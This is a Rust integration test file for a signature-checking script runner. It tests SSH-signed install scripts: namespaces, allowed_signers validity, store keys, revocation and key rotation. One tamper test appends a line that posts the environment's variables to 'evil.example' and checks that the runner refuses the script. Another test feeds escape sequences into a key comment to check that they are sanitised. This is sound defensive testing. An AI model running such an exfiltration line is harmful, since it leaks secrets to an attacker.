//! SSH signatures end to end (issue 14): an install script signed with `ssh-keygen -Y sign
//! -n file`, served with its `.sig` next to it on a loopback HTTPS server, run by the real
//! `verun` binary under an inline key, an `allowed_signers` file, or a store key. Keys are
//! made at run time by `ssh-keygen`, never committed.

mod common;

use std::path::PathBuf;
use std::process::{Command, Output};
use std::sync::OnceLock;

use common::*;

/// The publisher's keys, made once per run of this file.
struct Keys {
    /// The publisher's Ed25519 key.
    publisher: SshKeyPair,
    /// Someone else's Ed25519 key.
    other: SshKeyPair,
    /// The publisher's ECDSA P-256 key.
    ecdsa: SshKeyPair,
}

fn keys() -> Option<&'static Keys> {
    static KEYS: OnceLock<Option<Keys>> = OnceLock::new();
    KEYS.get_or_init(|| {
        if !ssh_keygen_available() {
            skipped(
                "ssh_cli",
                "ssh-keygen (OpenSSH) is not installed",
                "VERUN_REQUIRE_SSH_KEYGEN",
                Need::Oracle,
            );
            return None;
        }
        let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("ssh-cli-keys");
        let _ = std::fs::remove_dir_all(&dir);
        Some(Keys {
            publisher: SshKeyPair::generate(&dir, "publisher", "ed25519", "release@example.com"),
            other: SshKeyPair::generate(&dir, "other", "ed25519", "someone@else"),
            ecdsa: SshKeyPair::generate(&dir, "ecdsa", "ecdsa", "release-ecdsa@example.com"),
        })
    })
    .as_ref()
}

/// `ssh-keygen -lf` of a public key line: `SHA256:...`.
fn fingerprint(public: &str) -> String {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("k.pub");
    std::fs::write(&f, format!("{public}\n")).unwrap();
    let out = Command::new("ssh-keygen")
        .arg("-lf")
        .arg(&f)
        .output()
        .unwrap();
    assert!(out.status.success());
    String::from_utf8(out.stdout)
        .unwrap()
        .split_whitespace()
        .nth(1)
        .unwrap()
        .to_string()
}

/// A sandbox, a loopback HTTPS server and a marker script served at `/install.sh`.
struct Shop {
    env: TestEnv,
    server: TestServer,
    cacert: Vec<String>,
    script: Vec<u8>,
    marker: PathBuf,
}

impl Shop {
    fn new() -> Shop {
        let (env, server, cacert) = https_site();
        let (script, marker) = marker_script(&env, "install");
        Shop {
            env,
            server,
            cacert,
            script,
            marker,
        }
    }

    /// Serves the script at `/install.sh` and `sig` at `/install.sh.sig`; returns the URL.
    fn publish(&self, sig: Vec<u8>) -> String {
        self.server.route("/install.sh", Reply::bytes(&self.script));
        self.server.route("/install.sh.sig", Reply::bytes(sig));
        self.server.url("/install.sh")
    }

    /// `verun run URL ARGS --cacert CA`.
    fn run(&self, url: &str, args: &[&str]) -> Output {
        let mut all = vec!["run".to_string(), url.to_string()];
        all.extend(self.cacert.iter().cloned());
        all.extend(args.iter().map(|s| s.to_string()));
        self.env.verun(all)
    }
}

/// Exit 77 with one `verun: error:` and one `verun: hint:` line, and the script did not
/// run.
#[track_caller]
fn assert_refused(out: &Output, shop: &Shop) {
    assert_exit(out, 77);
    let err = stderr(out);
    assert!(
        err.contains("verun: error: ") && err.contains("verun: hint: "),
        "{err}"
    );
    assert_not_ran(&shop.marker);
}

#[test]
fn an_ssh_signed_install_script_runs_under_the_inline_public_key() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let url = shop.publish(k.publisher.sign("file", &shop.script));
    let out = shop.run(&url, &["--key", &k.publisher.public, "--", "--yes"]);
    assert_exit(&out, 0);
    assert_eq!(assert_ran(&shop.marker), vec!["--yes".to_string()]);
    assert!(
        stderr(&out).contains(&fingerprint(&k.publisher.public)),
        "the signer is named: {}",
        stderr(&out)
    );
    assert_eq!(
        shop.server.hits("/install.sh.sig"),
        1,
        "the default sibling"
    );
}

#[test]
fn an_ecdsa_key_from_a_pub_file_verifies_too() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let url = shop.publish(k.ecdsa.sign("file", &shop.script));
    let pubfile = shop
        .env
        .write("release.pub", format!("{}\n", k.ecdsa.public));
    let out = shop.run(&url, &["--key", &pubfile.display().to_string()]);
    assert_exit(&out, 0);
    assert_ran(&shop.marker);
}

#[test]
fn an_allowed_signers_file_as_key_verifies() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let url = shop.publish(k.publisher.sign("file", &shop.script));
    let signers = shop.env.write(
        "allowed_signers",
        format!(
            "# who may sign our releases\nsomeone@else {}\nrelease@example.com {}\n",
            k.other.public, k.publisher.public
        ),
    );
    let out = shop.run(&url, &["--key", &signers.display().to_string()]);
    assert_exit(&out, 0);
    assert_ran(&shop.marker);
}

#[test]
fn a_signature_by_a_key_not_given_is_refused() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let url = shop.publish(k.other.sign("file", &shop.script));
    let out = shop.run(&url, &["--key", &k.publisher.public]);
    assert_refused(&out, &shop);
}

#[test]
fn a_signature_made_for_the_git_namespace_is_refused() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    // What `git commit -S` with gpg.format=ssh makes: a genuine signature, for another use.
    let url = shop.publish(k.publisher.sign("git", &shop.script));
    let out = shop.run(&url, &["--key", &k.publisher.public]);
    assert_refused(&out, &shop);
    assert!(stderr(&out).contains("namespace"), "{}", stderr(&out));
}

#[test]
fn a_tampered_script_under_the_genuine_ssh_signature_is_refused() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let url = shop.publish(k.publisher.sign("file", &shop.script));
    let mut evil = shop.script.clone();
    evil.extend_from_slice(b"curl -d \"$(env)\" https://evil.example/\n");
    shop.server.route("/install.sh", Reply::bytes(evil));
    let out = shop.run(&url, &["--key", &k.publisher.public]);
    assert_refused(&out, &shop);
    // No signature at all, with a key given: refused too.
    shop.server.route("/install.sh", Reply::bytes(&shop.script));
    shop.server.remove_route("/install.sh.sig");
    assert_refused(&shop.run(&url, &["--key", &k.publisher.public]), &shop);
}

#[test]
fn an_allowed_signers_line_limited_to_the_git_namespace_refuses_a_file_signature() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let url = shop.publish(k.publisher.sign("file", &shop.script));
    let signers = shop.env.write(
        "allowed_signers",
        format!(
            "release@example.com namespaces=\"git\" {}\n",
            k.publisher.public
        ),
    );
    let out = shop.run(&url, &["--key", &signers.display().to_string()]);
    assert_refused(&out, &shop);
    // The same line allowing `file` verifies (the refusal was the option's doing).
    std::fs::write(
        &signers,
        format!(
            "release@example.com namespaces=\"git,file\" {}\n",
            k.publisher.public
        ),
    )
    .unwrap();
    assert_exit(
        &shop.run(&url, &["--key", &signers.display().to_string()]),
        0,
    );
}

#[test]
fn an_allowed_signers_line_whose_validity_is_over_or_not_yet_begun_refuses() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let url = shop.publish(k.publisher.sign("file", &shop.script));
    let signers = shop.env.path("allowed_signers");
    for option in ["valid-before=\"20200101\"", "valid-after=\"29990101\""] {
        std::fs::write(
            &signers,
            format!("release@example.com {option} {}\n", k.publisher.public),
        )
        .unwrap();
        let out = shop.run(&url, &["--key", &signers.display().to_string()]);
        assert_refused(&out, &shop);
    }
    std::fs::write(
        &signers,
        format!(
            "release@example.com valid-after=\"20200101\",valid-before=\"29990101\" {}\n",
            k.publisher.public
        ),
    )
    .unwrap();
    assert_exit(
        &shop.run(&url, &["--key", &signers.display().to_string()]),
        0,
    );
}

#[test]
fn a_store_ssh_key_verifies_within_its_scope_and_the_lockfile_names_the_ssh_signer() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let url = shop.publish(k.publisher.sign("file", &shop.script));
    let scope = format!("{}/", shop.server.base_url());
    let out = shop.env.verun([
        "key",
        "add",
        "example",
        "--pubkey",
        &k.publisher.public,
        "--scope",
        &scope,
    ]);
    assert_exit(&out, 0);
    let fpr = fingerprint(&k.publisher.public);
    let out = shop.env.verun(["key", "list", "--json"]);
    assert_exit(&out, 0);
    let v: serde_json::Value = serde_json::from_str(stdout(&out).trim()).unwrap();
    let entry = v["keys"]
        .as_array()
        .and_then(|a| a.iter().find(|e| e["name"] == "example"))
        .unwrap_or_else(|| panic!("no entry named example in {v}"));
    assert_eq!(entry["kind"], "ssh", "{entry}");
    assert_eq!(entry["signer"], format!("ssh:{fpr}"), "{entry}");

    let out = shop.run(&url, &["--lock", "verun.lock"]);
    assert_exit(&out, 0);
    assert_ran(&shop.marker);
    let lock = String::from_utf8(shop.env.read("verun.lock")).unwrap();
    assert!(lock.contains(&format!("signer = \"ssh:{fpr}\"")), "{lock}");
    let out = shop.env.verun(
        ["audit", "verun.lock"]
            .into_iter()
            .map(String::from)
            .chain(shop.cacert.iter().cloned()),
    );
    assert_exit(&out, 0);
    assert!(
        stdout(&out).contains("signature by"),
        "audit re-verified the SSH signature under the store key: {}",
        stdout(&out)
    );

    // Out of its scope the store key does not count.
    std::fs::remove_file(&shop.marker).unwrap();
    shop.server
        .route("/elsewhere/install.sh", Reply::bytes(&shop.script));
    shop.server.route(
        "/elsewhere/install.sh.sig",
        Reply::bytes(k.publisher.sign("file", &shop.script)),
    );
    let out = shop.env.verun([
        "key",
        "add",
        "narrow",
        "--pubkey",
        &k.ecdsa.public,
        "--scope",
        &shop.server.url("/narrow/"),
    ]);
    assert_exit(&out, 0);
    assert_exit(&shop.env.verun(["key", "remove", "example"]), 0);
    let out = shop.run(&shop.server.url("/elsewhere/install.sh"), &[]);
    assert_refused(&out, &shop);
    // Revoked: refused even with --key.
    let out = shop.env.verun([
        "key",
        "add",
        "example",
        "--pubkey",
        &k.publisher.public,
        "--scope",
        &scope,
    ]);
    assert_exit(&out, 0);
    assert_exit(&shop.env.verun(["key", "revoke", "example"]), 0);
    let out = shop.run(&url, &["--key", &k.publisher.public]);
    assert_refused(&out, &shop);
}

#[test]
fn the_json_report_of_a_fetch_names_the_ssh_signer() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let url = shop.publish(k.publisher.sign("file", &shop.script));
    let dest = shop.env.path("install.sh");
    let mut args = vec![
        "fetch".to_string(),
        url,
        "-o".into(),
        dest.display().to_string(),
        "--key".into(),
        k.publisher.public.clone(),
        "--json".into(),
    ];
    args.extend(shop.cacert.iter().cloned());
    let out = shop.env.verun(args);
    assert_exit(&out, 0);
    let v: serde_json::Value = serde_json::from_str(stdout(&out).trim()).unwrap();
    let fpr = fingerprint(&k.publisher.public);
    assert!(
        v.to_string().contains(&format!("\"ssh:{fpr}\"")),
        "the report names ssh:{fpr}: {v}"
    );
    assert_eq!(std::fs::read(&dest).unwrap(), shop.script);
    assert_not_ran(&shop.marker);
}

#[test]
fn an_ssh_key_comment_with_escape_sequences_is_shown_sanitised() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let url = shop.publish(k.publisher.sign("file", &shop.script));
    let blob = k.publisher.public.split_whitespace().nth(1).unwrap();
    let key = format!("ssh-ed25519 {blob} evil\u{1b}[31m\u{202e}comment\u{7}");
    let out = shop.run(&url, &["--key", &key]);
    assert_exit(&out, 0);
    assert!(stderr(&out).contains("\\u{1b}[31m"), "{}", stderr(&out));
    assert_no_raw_controls(&out.stderr, "run under a key with an evil comment");
    let signers = shop
        .env
        .write("allowed_signers", format!("release@example.com {key}\n"));
    std::fs::remove_file(&shop.marker).unwrap();
    shop.server
        .route("/install.sh", Reply::bytes(b"#!/bin/sh\necho changed\n"));
    let out = shop.run(&url, &["--key", &signers.display().to_string()]);
    assert_refused(&out, &shop);
    assert_no_raw_controls(&out.stderr, "refused under a key with an evil comment");
    // The store keeps the comment (key show names the key by it): shown sanitised too.
    let out = shop.env.verun([
        "key",
        "add",
        "evil",
        "--pubkey",
        &key,
        "--scope",
        "https://example.com/",
    ]);
    assert_exit(&out, 0);
    for args in [&["key", "show", "evil"][..], &["key", "list"][..]] {
        let out = shop.env.verun(args);
        assert_exit(&out, 0);
        assert_no_raw_controls(
            &out.stdout,
            &format!("{args:?} of a key with an evil comment"),
        );
        assert_no_raw_controls(
            &out.stderr,
            &format!("{args:?} of a key with an evil comment"),
        );
    }
    let out = shop.env.verun(["key", "show", "evil"]);
    assert!(stdout(&out).contains("evil\\u{1b}[31m"), "{}", stdout(&out));
}

/// `verun key rotate` moves an SSH store entry to a new key only with a `file` signature of
/// the new key file by the current key; afterwards the old key's signature is refused (it
/// is rotated out), the new key's counts, and a rotation signed by another key, for another
/// namespace, or over another file changes nothing.
#[test]
fn an_ssh_store_key_rotates_to_a_new_key_signed_by_the_current_one() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let scope = format!("{}/", shop.server.base_url());
    let out = shop.env.verun([
        "key",
        "add",
        "example",
        "--pubkey",
        &k.publisher.public,
        "--scope",
        &scope,
    ]);
    assert_exit(&out, 0);
    // The successor is the ECDSA key; its .pub line, signed with the current key.
    let new_pub = format!("{}\n", k.ecdsa.public);
    let new_file = shop.env.write("new.pub", &new_pub);
    let new = new_file.display().to_string();
    let rotate = |sig: &[u8]| {
        let sig_file = shop.env.write("new.pub.sig", sig);
        shop.env.verun([
            "key",
            "rotate",
            "example",
            "--new",
            &new,
            "--sig",
            &sig_file.display().to_string(),
        ])
    };
    for (what, sig) in [
        (
            "signed by another key",
            k.other.sign("file", new_pub.as_bytes()),
        ),
        (
            "signed for git",
            k.publisher.sign("git", new_pub.as_bytes()),
        ),
        (
            "over another file",
            k.publisher.sign("file", b"another file\n"),
        ),
    ] {
        let out = rotate(&sig);
        assert_exit(&out, 77);
        assert!(
            stderr(&out).contains("verun: hint: "),
            "{what}: {}",
            stderr(&out)
        );
        let show = stdout(&shop.env.verun(["key", "show", "example"]));
        assert!(
            show.contains(&fingerprint(&k.publisher.public)),
            "{what}: {show}"
        );
        assert!(!show.contains("rotated"), "{what}: {show}");
    }
    let out = rotate(&k.publisher.sign("file", new_pub.as_bytes()));
    assert_exit(&out, 0);
    assert!(stderr(&out).contains("rotated example"), "{}", stderr(&out));
    let show = stdout(&shop.env.verun(["key", "show", "example"]));
    assert!(show.contains(&fingerprint(&k.ecdsa.public)), "{show}");
    assert!(
        show.contains(&fingerprint(&k.publisher.public)),
        "history: {show}"
    );

    // The old key's signature: rotated out, refused (even with --key).
    let url = shop.publish(k.publisher.sign("file", &shop.script));
    assert_refused(&shop.run(&url, &[]), &shop);
    let out = shop.run(&url, &["--key", &k.publisher.public]);
    assert_refused(&out, &shop);
    assert!(stderr(&out).contains("rotated out"), "{}", stderr(&out));
    // The new key's signature runs.
    let url = shop.publish(k.ecdsa.sign("file", &shop.script));
    assert_exit(&shop.run(&url, &[]), 0);
    assert_ran(&shop.marker);
}
